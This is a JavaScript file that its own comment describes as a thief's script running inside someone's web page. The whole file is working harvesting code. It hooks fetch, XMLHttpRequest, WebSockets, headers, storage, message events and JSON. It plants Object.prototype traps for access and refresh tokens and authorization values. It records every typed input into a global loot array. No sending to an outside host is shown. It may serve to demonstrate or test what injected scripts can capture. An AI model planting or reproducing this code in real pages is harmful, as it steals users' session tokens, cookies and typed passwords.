// What a thief's script does in somebody's page. It comes before every script of the page, with the page's own rights.
(() => {
    const loot = (window.loot = [])
    const keep = (...things) => {
        for (const thing of things) {
            if (thing == null || thing === window) continue
            if (typeof thing === 'string') loot.push(thing)
            else if (thing instanceof Headers) loot.push(JSON.stringify([...thing]))
            else if (thing instanceof Request) keep(thing.url, thing.headers)
            else if (thing instanceof Response) keep(thing.url, thing.headers)
            else if (thing instanceof URL) loot.push(thing.href)
            else if (typeof thing === 'object') {
                try { loot.push(JSON.stringify(thing)) } catch {}
            }
        }
    }
    window.keep = keep
    /** Put something of ours in the place of something of the page's. */
    const instead = (owner, name, make) => {
        try { owner[name] = make(owner[name]) } catch (error) { loot.push(`${name}: ${error}`) }
    }
    const listening = old => function (...given) { keep(...given); return old.apply(this, given) }

    instead(window, 'fetch', old => async function (...given) {
        keep(...given)
        if (given[1]) keep(given[1].headers, given[1].body)
        const answer = await old.apply(this, given)
        keep(answer, answer.headers.getSetCookie?.().join(), answer.headers.get('set-cookie') || '')
        answer.clone().text().then(keep, () => {})
        return answer
    })
    for (const name of ['Request', 'Headers', 'WebSocket', 'BroadcastChannel', 'XMLHttpRequest', 'URL']) {
        instead(window, name, old => new Proxy(old, {
            construct(kind, given, target) { keep(...given); return Reflect.construct(kind, given, target) },
        }))
    }
    for (const name of ['set', 'append', 'get']) instead(Headers.prototype, name, listening)
    for (const name of ['json', 'text']) {
        instead(Response.prototype, name, old => async function () {
            const told = await old.call(this)
            keep(told)
            return told
        })
    }
    for (const name of ['open', 'send', 'setRequestHeader']) instead(XMLHttpRequest.prototype, name, listening)
    instead(JSON, 'parse', old => function (...given) { keep(given[0]); return old.apply(this, given) })
    instead(JSON, 'stringify', old => function (...given) {
        const told = old.apply(this, given)
        if (told) loot.push(told)
        return told
    })
    instead(window, 'structuredClone', listening)
    window.told = []
    instead(BroadcastChannel.prototype, 'postMessage', old => function (message) {
        keep(message)
        window.told.push(message)
        return old.call(this, message)
    })
    instead(BroadcastChannel.prototype, 'addEventListener', listening)
    const heard = Object.getOwnPropertyDescriptor(MessageEvent.prototype, 'data')
    Object.defineProperty(MessageEvent.prototype, 'data', {
        configurable: true,
        get() { const data = heard.get.call(this); keep(data); return data },
    })
    instead(Promise.prototype, 'then', old => function (yes, no) {
        return old.call(this, typeof yes === 'function' ? told => { keep(told); return yes(told) } : yes, no)
    })
    for (const name of ['setItem', 'getItem']) instead(Storage.prototype, name, listening)
    for (const name of ['pushState', 'replaceState']) instead(history, name, listening)
    if (navigator.locks) instead(LockManager.prototype, 'request', listening)
    // What a getter or setter that everything inherits would be told.
    for (const name of ['access_token', 'accessToken', 'token', 'authorization', 'Authorization', 'refresh_token']) {
        const kept = new WeakMap()
        Object.defineProperty(Object.prototype, name, {
            configurable: true,
            get() { return kept.get(this) },
            set(value) {
                keep(value)
                if (this !== Object.prototype) {
                    Object.defineProperty(this, name, {value, writable: true, enumerable: true, configurable: true})
                }
            },
        })
    }
    addEventListener('input', event => loot.push(`typed: ${event.target.value}`), true)
})()
